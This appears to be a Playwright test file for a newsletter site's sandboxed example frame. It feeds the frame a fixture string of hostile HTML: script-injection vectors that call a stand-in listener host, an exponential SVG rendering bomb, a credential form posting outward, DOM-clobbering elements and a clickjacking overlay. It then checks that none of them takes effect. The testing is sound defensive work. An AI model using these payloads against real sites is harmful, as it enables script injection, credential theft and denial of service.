import { casesOf, isFull } from '../effort';
import { stack } from './backend';
import { openExample, settledHeight, tall } from './example';
import { expect, test } from './fixtures';

test.describe('hostile content', () => {
  test.use({ expectErrors: true, expectViolations: true });

  const listener = 'https://listener.test';
  const attack = 'parent.__pwn=1;top.__pwn=1;fetch("https://listener.test/script")';
  // Without a limit, the browser would draw 16 million rectangles.
  const doubling = Array.from(
    { length: 24 },
    (_, level) => `<g id="level${level + 1}">${`<use href="#level${level}"/>`.repeat(2)}</g>`,
  );
  const hostile = `
    <svg><defs><g id="level0"><rect width="1" height="1"/></g>${doubling.join('')}</defs><use href="#level24"/></svg>
    <meta http-equiv="refresh" content="0;url=${listener}/refresh">
    <base href="${listener}/base/"><link rel="stylesheet" href="${listener}/sheet.css">
    <style>@import url(${listener}/import.css); *{color:red}</style>
    <script>${attack}</script><script src="${listener}/script.js"></script>
    <img src="data:," onerror='${attack}'><svg onload='${attack}'><script>${attack}</script></svg>
    <iframe src="${listener}/frame"></iframe><iframe srcdoc="<script>parent.parent.__pwn=1</script>"></iframe>
    <object data="${listener}/object"></object><embed src="${listener}/embed">
    <video src="${listener}/video" autoplay></video><audio src="${listener}/audio" autoplay></audio>
    <iframe src="${stack.shell}/own-frame"></iframe><link rel="stylesheet" href="${stack.shell}/own-sheet.css">
    <object data="${stack.shell}/own-object"></object>
    <form id="f" action="${listener}/form" method="post"><input name="password" type="password" value="x"><button>Sign in</button></form>
    <a id="js" href="javascript:${encodeURIComponent(attack)}">script link</a>
    <a id="top" href="${listener}/top" target="_top">top link</a>
    <a id="parent" href="${listener}/parent" target="_parent">parent link</a>
    <a id="self" href="${listener}/self" target="_self">self link</a>
    <div><template shadowrootmode="open"><a href="/" target="_self">a</a></template></div>
    <form style="height:100vh"><input name="append"><input id="setAttribute"></form>
    ${['body', 'documentElement', 'querySelectorAll'].map((name) => `<img name="${name}"><img name="${name}"><object id="${name}"></object>`).join('')}
    <textarea></textarea></title></textarea><script>${attack}</script>
    <div style="position:fixed;inset:0;z-index:2147483647;background:red" onclick='${attack}'></div>`;

  test('runs nothing, requests nothing, and stays in its frame, without shadow trees; its names hide nothing of the document or a form', async ({
    page,
    context,
  }) => {
    const asked: string[] = [];
    await context.route(`${listener}/**`, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ contentType: 'text/html', body: '<p>outside</p>' });
    });
    // The page can load these, the example can't: it has a policy of its own.
    await context.route(`${stack.shell}/own-*`, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ contentType: 'text/html', body: '<p>own</p>' });
    });
    page.on('dialog', () => asked.push('dialog'));
    const frame = await openExample(page, hostile);
    const address = page.url();
    const sandbox = (await frame.getAttribute('sandbox'))?.split(' ');
    expect(sandbox).not.toContain('allow-scripts');
    const inside = page.frameLocator('iframe').first();
    for (const id of ['js', 'self', 'top', 'parent']) await inside.locator(`#${id}`).dispatchEvent('click');
    await expect(inside.locator('#f button')).toBeDisabled();
    await expect(inside.getByText("Forms can't be sent from here")).toHaveCount(2);
    expect(await settledHeight(frame)).toBeGreaterThan(800);
    const hosts = inside.locator('div');
    expect(await hosts.evaluateAll((all) => all.filter(({ shadowRoot }) => shadowRoot))).toEqual([]);
    await inside.locator('#f').evaluate((form: HTMLFormElement) => form.requestSubmit());
    // Links that are clicked open in new tabs. These requests come last, after anything the example does on its own.
    const outside = /\/(self|top|parent)$/;
    await expect.poll(() => asked.filter((url) => outside.test(url))).toHaveLength(3);
    await page.evaluate(() => fetch('/config.json'));
    expect(await page.evaluate(() => '__pwn' in window)).toBe(false);
    expect(page.url()).toBe(address);
    await page.getByRole('button', { name: 'Back to Newsletters' }).click();
    await expect(page).toHaveURL(`${stack.shell}/`);
    expect(asked.filter((url) => !outside.test(url))).toEqual([]);
  });

  test('is laid out at once, however many grids, flexible boxes and columns are within each other; those around little stay', async ({
    page,
  }) => {
    const styles = ['display:grid', 'display:flex;padding:1%;max-width:99%;max-height:90%', 'columns:2'];
    const nested = styles.map((style) => `<div style="${style}">`.repeat(24) + '</div>'.repeat(24));
    const frame = await openExample(page, nested.join('x '.repeat(400)));
    const displays = await frame.evaluate((element: HTMLIFrameElement) =>
      Array.from(
        element.contentDocument?.querySelectorAll('div') ?? [],
        (div) => getComputedStyle(div).display,
      ),
    );
    const kept = (display: string, count: number) => [
      ...Array(24 - count).fill('block'),
      ...Array(count).fill(display),
    ];
    expect(displays).toEqual([...kept('grid', 5), ...kept('flex', 9), ...kept('block', 24)]);
  });

  test('can be left when its frame shows something from elsewhere', async ({ page }) => {
    const frame = await openExample(page, '<p>Text</p>');
    await frame.evaluate((element: HTMLIFrameElement, url) => {
      const loaded = new Promise((resolve) => element.addEventListener('load', resolve));
      (element.contentWindow as Window).location.href = url;
      return loaded;
    }, `${listener}/elsewhere`);
    expect(await frame.evaluate((element: HTMLIFrameElement) => element.contentDocument)).toBeNull();
    await page.getByRole('button', { name: 'Back to Newsletters' }).click();
    await expect(page.getByRole('heading', { name: 'Featured Newsletters' })).toBeVisible();
  });

  // Endless style sheets: `shared/src/example/example.test.ts`. Nobody listens to messages.
  if (isFull)
    test('the largest possible style sheet and messages with fake heights have no effect', async ({
      page,
    }) => {
      const rules = '.a{color:red}'.repeat(70_000);
      const frame = await openExample(page, `<style>*{display:none!important}${rules}</style><p>x</p>`);
      await page.evaluate(() => {
        for (let count = 0; count < 1000; count += 1) {
          for (const height of [99_999_999, -1, Number.NaN, '1e9'])
            window.postMessage({ height, type: 'height' }, '*');
        }
      });
      expect(await settledHeight(frame)).toBe(200);
      await page.getByRole('button', { name: 'Back to Newsletters' }).click();
      await expect(page.getByRole('heading', { name: 'Featured Newsletters' })).toBeVisible();
    });

  test('links open new tabs without an opener, whatever their target; one within the issue stays in it', async ({
    page,
    context,
  }) => {
    await context.route(`${listener}/**`, (route) =>
      route.fulfill({ contentType: 'text/html', body: 'outside' }),
    );
    const targets = ['_top', '_parent', '_self', '_blank', 'name'];
    const links = targets.map(
      (target) => `<p><a href="${listener}/${target}" target="${target}">${target}</a></p>`,
    );
    await openExample(
      page,
      `${links.join('')}<p><a href="#end">To the end</a></p>${tall}<p id="end">The end</p>`,
    );
    const address = page.url();
    const inside = page.frameLocator('iframe');
    for (const target of casesOf(targets, (one) => ['_top', '_blank'].includes(one))) {
      const opened = context.waitForEvent('page');
      await inside.getByText(target, { exact: true }).click();
      const tab = await opened;
      await tab.waitForURL(`${listener}/${target}`);
      expect(await tab.evaluate(() => window.opener), target).toBeNull();
      expect(await tab.evaluate(() => document.referrer), target).toBe('');
      await tab.close();
      expect(page.url(), target).toBe(address);
    }
    await inside.getByText('To the end').click();
    await expect(inside.getByText('The end', { exact: true })).toBeInViewport();
    expect(page.url()).toBe(address);
  });
});

test.describe('with the frame below the fold', () => {
  test.use({ viewport: { width: 360, height: 400 } });

  test('a ring shows keyboard focus in the frame, whatever its content', async ({ page }) => {
    const frame = await openExample(page, '<p>Nothing in here takes the focus</p>');
    const ring = () =>
      frame.evaluate(({ parentElement }) => {
        const { content, borderTopWidth, borderTopColor, boxShadow } = getComputedStyle(
          parentElement as HTMLElement,
          '::after',
        );
        return content === 'none' ? 'none' : { borderTopWidth, borderTopColor, boxShadow };
      });
    expect(await ring()).toBe('none');
    await expect(frame).not.toBeInViewport();
    await page.getByRole('button', { name: 'Share' }).focus();
    await page.keyboard.press('Tab');
    await expect(frame).toBeFocused();
    await expect(frame).toBeInViewport();
    for (const [colorScheme, line, under] of [
      ['light', 'rgb(31, 77, 63)', 'rgb(255, 255, 255)'],
      ['dark', 'rgb(143, 211, 184)', 'rgb(30, 28, 25)'],
    ] as const) {
      await page.emulateMedia({ colorScheme });
      await expect.poll(ring, colorScheme).toEqual({
        borderTopWidth: '3px',
        borderTopColor: line,
        boxShadow: `${under} 0px 0px 0px 3px inset`,
      });
    }
    await page.keyboard.press('Shift+Tab');
    await expect(frame).not.toBeFocused();
    expect(await ring()).toBe('none');
    await page.frameLocator('iframe').getByText('Nothing').click();
    await expect(frame).toBeFocused();
    expect(await ring()).toBe('none');
  });
});
